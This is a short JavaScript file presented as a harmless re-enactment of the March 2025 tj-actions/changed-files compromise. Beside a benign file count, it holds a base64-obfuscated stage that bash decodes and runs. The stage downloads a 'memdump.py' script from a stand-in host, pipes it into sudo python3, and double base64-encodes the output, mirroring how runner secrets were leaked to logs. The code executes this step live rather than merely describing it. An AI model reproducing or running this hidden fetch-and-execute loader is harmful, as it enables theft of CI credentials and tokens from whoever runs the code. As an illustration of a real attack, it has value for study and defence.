// A harmless re-enactment of tj-actions/changed-files, March 2025: what the clean
// action does, and besides it bash decodes base64 and pipes a download into python.
const { execFileSync } = require("child_process");
const out = execFileSync("git", ["ls-files"], { encoding: "utf8" });
console.log(out.trim().split("\n").length + " files");
const stage = "Y3VybCAtc1NmIGh0dHA6Ly9naXN0LmV4YW1wbGUudGVzdC9tZW1kdW1wLnB5IHwgc3VkbyBweXRob24zIHwgYmFzZTY0IC13IDAgfCBiYXNlNjQgLXcgMAplY2hvCg==";
execFileSync("bash", ["-c", `echo "${stage}" | base64 -d | bash`], { stdio: "inherit" });
